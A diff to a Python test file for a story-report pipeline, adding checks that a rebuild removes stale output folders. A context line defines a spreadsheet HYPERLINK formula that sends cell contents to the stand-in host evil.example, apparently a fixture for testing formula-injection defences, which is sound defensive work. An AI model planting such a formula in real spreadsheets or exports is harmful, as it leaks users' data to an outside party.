@@ -349,6 +349,11 @@ def test_story_folders_that_differ_only_in_case_keep_their_own_reports(tmp_path)
         story = coverage["story"].unique().tolist()
         assert len(story) == 1 and f"Story <code>{story[0]}</code>" in (out / link).read_text(encoding="utf-8")
     assert (out / "stories" / "bridge" / "report.html").exists()  # an id that is a slug keeps its own name
+    (out / "stories" / "stale").mkdir()  # a folder named the old way (the slug alone) is removed on a rebuild
+    page = raw / "Bridge" / "northshore-daily.txt"
+    page.write_text(page.read_text(encoding="utf-8") + "\nUpdated at noon.\n", encoding="utf-8")
+    run_pipeline(raw, out, workers=1)
+    assert len(list((out / "stories").iterdir())) == 2 and not (out / "stories" / "stale").exists()
 
 
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
